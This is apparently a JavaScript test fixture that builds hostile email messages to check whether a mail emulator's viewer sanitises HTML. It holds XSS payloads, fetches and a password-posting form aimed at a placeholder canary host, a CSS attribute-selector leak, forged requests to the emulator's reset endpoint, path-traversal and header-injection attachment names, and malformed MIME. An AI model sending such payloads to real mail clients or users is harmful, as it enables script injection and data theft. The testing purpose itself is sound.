// Mails that mean harm, and mails that are merely odd. {canary} is an address where nobody may call, {api} the emulator's.

const head = (subject, type = "text/html; charset=utf-8", more = "") => `From: Stranger <stranger@example.com>\r\nTo: reader@example.com\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n${more}\r\n`;
const html = (subject, body) => [subject, head(subject) + body];

const scripts = [
    html("script", "<script>top.pwned = 1; fetch('{canary}/script')</script><script src='{canary}/src.js'></script><p>calm</p>"),
    html("event handlers", "<img src=x onerror=\"top.pwned=1\"><body onload=\"top.pwned=1\"><details open ontoggle=\"top.pwned=1\">x</details><input autofocus onfocus=\"top.pwned=1\">"),
    html("svg", "<svg onload=\"top.pwned=1\"><script>top.pwned=1</script><animate onbegin=\"top.pwned=1\" attributeName=x dur=1s /><use href=\"{canary}/x.svg#a\"/></svg>"),
    html("javascript: and data:", "<iframe src=\"javascript:top.pwned=1\"></iframe><iframe src=\"data:text/html,<script>top.pwned=1</script>\"></iframe><object data=\"data:text/html,<script>top.pwned=1</script>\"></object>" +
                                  "<embed src=\"{canary}/embed\"><a href=\"javascript:top.pwned=1\">here</a>"),
    html("srcdoc", "<iframe srcdoc=\"<script>top.pwned=1;parent.parent.pwned=1</script>\"></iframe>"),
];

const fetches = [
    html("pictures", "<img src='{canary}/pixel.png'><picture><source srcset='{canary}/set.png'></picture><video poster='{canary}/poster'></video><audio src='{canary}/a.mp3' autoplay></audio><table background='{canary}/table.png'>"),
    html("css", "<link rel=stylesheet href='{canary}/sheet.css'><style>@import '{canary}/import.css'; @font-face{font-family:x;src:url('{canary}/font')} body{background:url('{canary}/back.png');font-family:x}" +
                " input[value^=a]{background:url('{canary}/leak')} #over{position:fixed;inset:-99px;z-index:99999}</style><div id=over></div><input value=abc>"),
    html("links that load", "<link rel=prefetch href='{canary}/prefetch'><link rel=preconnect href='{canary}'><link rel=dns-prefetch href='{canary}'><base href='{canary}/'><img src='relative.png'>"),
    html("meta refresh", "<meta http-equiv=refresh content=\"0;url={canary}/refresh\"><meta http-equiv=set-cookie content='a=b'><meta http-equiv=Content-Security-Policy content=\"default-src *\">"),
    html("the api", "<img src='{api}/api/v1/messages'><link rel=stylesheet href='{api}/_sendlab/health'><iframe src='{api}/'></iframe><form id=f action='{api}/_sendlab/reset' method=post><button autofocus>x</button></form>" +
                    "<meta http-equiv=refresh content=\"0;url={api}/_sendlab/reset\">"),
    html("a form", "<form action='{canary}/form' method=post><input name=password type=password value=secret><input type=submit formaction='{canary}/formaction'></form>"),
];

const marked = "<img src=x onerror=top.pwned=1>";
const names = [
    [`${marked}`, head(marked, "text/plain") + marked],
    ["encoded subject", head(`=?utf-8?B?${Buffer.from("\"><script>top.pwned=1</script>").toString("base64")}?=`, "text/plain") + "</pre><script>top.pwned=1</script>"],
    ["names", `From: "${marked.replaceAll('"', "")}" <x@example.com>\r\nTo: "<script>top.pwned=1</script>" <reader@example.com>\r\nSubject: names\r\nX-${"A".repeat(200)}: ${marked}\r\nList-Unsubscribe: <javascript:top.pwned=1>\r\n\r\nx`],
    ["attachment names", head("attachment names", "multipart/mixed; boundary=b") + ["../../../etc/passwd", marked, "a\\r\\nSet-Cookie: x=y", "\u202Egpj.exe", "x".repeat(600), ""].map((name) =>
        `--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename*=UTF-8''${encodeURIComponent(name)}\r\n\r\n<script>top.pwned=1</script>\r\n`).join("") +
        `--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <pic>\r\nContent-Disposition: inline\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg"><script>top.pwned=1</script></svg>\r\n` +
        "--b\r\nContent-Type: text/html\r\n\r\n<img src='cid:pic'><object data='cid:pic'></object><iframe src='cid:pic'></iframe>\r\n--b--\r\n"],
];

const broken = [
    ["no head", "\r\nno head at all"], ["nothing", ""], ["only a head", "Subject: only a head\r\n"],
    ["unterminated", head("unterminated", "multipart/mixed; boundary=b") + "--b\r\nContent-Type: multipart/alternative; boundary=c\r\n\r\n--c\r\n\r\nx"],
    ["bad base64", head("bad base64", "text/html", "Content-Transfer-Encoding: base64\r\n") + "PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==!!!\u0000%%%"],
    ["nested", head("nested", "multipart/mixed; boundary=x0") + Array.from({length: 300}, (_, i) => `--x${i}\r\nContent-Type: multipart/mixed; boundary=x${i + 1}\r\n\r\n`).join("")],
    ["many headers", `Subject: many headers\r\n${"X: y\r\n".repeat(2000)}\r\nx`], ["huge", head("huge") + "<div>".repeat(100).concat("\r\n").repeat(200) + "x".repeat(900).concat("\r\n").repeat(2000)], ["one line", head("one line", "text/plain", "Content-Transfer-Encoding: quoted-printable\r\n") + "y".repeat(75).concat("=\r\n").repeat(7000)],
    ["controls", head("controls", "text/plain") + "\u0001\u0007\u001b[31m\u0008\ufeff\u202e\u2028\u0000"],
];

const charsets = {"utf-8": "Zażółć 日本 😀", "iso-8859-1": "caf\u00e9", "windows-1252": "\u0093x\u0094", "koi8-r": "\u00c1\u00c2", "iso-2022-jp": "\u001b$B%F%9%H\u001b(B", "utf-16": "\u00fe\u00ff\u0000x", "gb18030": "\u0081\u0030\u0081\u0030",
                  "utf-7": "+ADw-script+AD4-top.pwned=1+ADw-/script+AD4-", "no-such-charset": "\u00ff\u00fe"};
const letters = Object.entries(charsets).map(([name, text]) => [`charset ${name}`, [head(`charset ${name}`, `text/html; charset=${name}`), name === "utf-8" ? text : Buffer.from(text, "latin1")]]);

/// [name, bytes], ready to be sent.
export function hostile_mails(canary, api) {
    const bytes = (text) => Buffer.from(text.replaceAll("{canary}", canary).replaceAll("{api}", api));
    return [...scripts, ...fetches, ...names, ...broken, ...letters].map(([name, text]) => [name, Array.isArray(text) ? Buffer.concat(text.map((part) => Buffer.isBuffer(part) ? part : bytes(part))) : bytes(text)]);
}
